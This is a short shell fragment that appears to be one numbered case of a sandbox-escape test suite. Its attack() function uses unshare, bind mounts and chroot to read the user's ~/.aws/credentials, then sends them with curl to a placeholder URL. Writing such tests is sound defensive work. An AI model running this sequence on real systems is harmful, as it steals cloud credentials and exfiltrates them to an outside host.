# SPDX-License-Identifier: Apache-2.0
TITLE="a chroot whose tree contains the home under another name"
ROW="R27"
attack() {
	mkdir -p jail
	unshare --mount --propagation private sh -c '
		mount --rbind / jail && mkdir -p jail/tmp/x && mount --bind "$HOME" jail/mnt &&
		chroot jail /bin/cat /mnt/.aws/credentials' >loot
	curl -s -m 5 --data-binary @loot "$URL/"
}
